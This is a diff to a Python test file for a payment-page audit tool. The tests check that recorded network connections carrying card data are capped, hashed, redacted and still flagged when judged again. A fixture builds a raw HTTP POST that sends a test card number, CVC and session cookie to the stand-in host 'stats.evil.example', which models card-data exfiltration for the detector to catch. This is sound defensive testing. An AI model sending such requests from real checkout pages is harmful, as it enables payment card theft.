@@ -3,14 +3,18 @@ masking in result.json never hide the canary (pure, no browser)."""
 
 from __future__ import annotations
 
+import base64
+import dataclasses
+import hashlib
 import json
 
 import pytest
 
 from audit.detect.sightings import digit_stream_split
-from audit.evidence import Card, Evidence, FrameRecord, RequestRecord, StepRecord, StorageRecord
+from audit.evidence import (Card, Evidence, FrameRecord, RequestRecord, StepRecord, StorageRecord, WireExcerpt,
+                            WireRecord)
 from audit.detect.policy import HostPolicy
-from audit.result import build_result, evidence_from_result
+from audit.result import WIRE_KEPT, build_result, evidence_from_result
 
 CARD = Card("4000056655665556")
 POLICY = HostPolicy(card_data_hosts=("api.stripe.com",), card_frame_hosts=("js.stripe.com",),
@@ -82,7 +86,6 @@ def test_split_digit_streams(payloads, spanned):
 def test_scenario_source_and_step_times_survive_a_round_trip():
     """SARIF places findings on the scenario file and step line: `check` and `report` keep both."""
     source = {"path": "scenarios/pay.yaml", "lines": [4, 9, 10], "card_steps": [2]}
-    import dataclasses
     evidence = dataclasses.replace(_evidence(scenario_source=source),
                                    steps=(StepRecord("goto", "https://shop.example.test/pay", True, time=0.1),
                                           StepRecord("fill_card", "card fields", True, time=1.5)))
@@ -90,3 +93,54 @@ def test_scenario_source_and_step_times_survive_a_round_trip():
     for result in both.values():
         assert result["scenario"]["source"] == source
         assert [s["time"] for s in result["flow"]["steps"]] == [0.1, 1.5]
+
+
+def _connection(body: bytes, host: str = "stats.evil.example", extra: bytes = b"") -> WireRecord:
+    """One HTTP/1.1 connection that sent a POST of `body` (no request record names it)."""
+    head = (f"POST /big HTTP/1.1\r\nHost: {host}\r\nCookie: session=abc\r\n"
+            f"Content-Length: {len(body)}\r\n\r\n").encode()
+    return WireRecord(id="c1", host=host, port=443, sent_b64=base64.b64encode(head + body + extra).decode())
+
+
+def _wire_findings(result: dict) -> set[tuple[str, str, str]]:
+    return {(f["rule"], f["host"], f["field"]) for f in result["findings"] if f["channel"] == "wire"}
+
+
+@pytest.mark.parametrize("body", [
+    b"x" * (9 * 2**20) + b"&cc=4000056655665556&cvc=737",                  # past the cap, at the end
+    base64.b64encode(b"p" * (9 * 2**20) + b'{"n":"4000056655665556"}'),  # encoded, past the cap
+])
+def test_a_connection_above_the_cap_is_cut_but_judged_again_alike(body):
+    """Above the cap, result.json keeps a connection's size, hash, first bytes and the bytes around
+    each card sighting; `check` judging that finds the same card data again."""
+    wire = _connection(body)
+    both = _round_trip(_evidence(wire=(wire,)))
+    first, again = both["first"], both["again"]
+    assert _wire_findings(first) and _wire_findings(again) == _wire_findings(first)
+    assert again["verdict"] == first["verdict"] == "fail"
+    stored = first["wire"][0]
+    cut = stored["cut"]
+    assert cut["size"] == len(wire.sent) == stored["bytes"] and cut["sha256"] == hashlib.sha256(wire.sent).hexdigest()
+    assert cut["kept"] == WIRE_KEPT and cut["cut"] == len(wire.sent) - WIRE_KEPT and cut["searched"] is True
+    assert len(base64.b64decode(stored["sent_b64"])) <= WIRE_KEPT
+    assert len(json.dumps(first)) < 2**20
+    assert b"[redacted]" in base64.b64decode(stored["sent_b64"])  # cookies redacted as ever
+    # Judged again, the record says the same: nothing is cut twice or lost.
+    assert again["wire"][0]["cut"] == cut and again["wire"][0]["excerpts"] == stored["excerpts"]
+
+
+def test_a_connection_at_or_below_the_cap_is_kept_whole():
+    wire = _connection(b"y" * 1000 + b"&cc=4000056655665556")
+    result = build_result(_evidence(wire=(wire,)), POLICY)
+    assert "cut" not in result["wire"][0] and result["wire"][0]["bytes"] == len(wire.sent)
+    assert _wire_findings(result)
+
+
+def test_a_sighting_whose_bytes_were_too_large_to_keep_still_counts():
+    """An excerpt cut to fit (or kept empty) no longer shows the card: what the sweep found while
+    the run was live still holds when the record is judged again (fail closed)."""
+    wire = dataclasses.replace(_connection(b"z" * 100), size=50 * 2**20, sha256="0" * 64, excerpts=(
+        WireExcerpt(what="body", field="number", encoding="gzip>base64", offset=0, sent_b64=""),))
+    result = build_result(_evidence(wire=(wire,)), POLICY)
+    assert ("card-data-egress", "stats.evil.example", "number") in _wire_findings(result)
+    assert result["wire"][0]["cut"]["size"] == 50 * 2**20
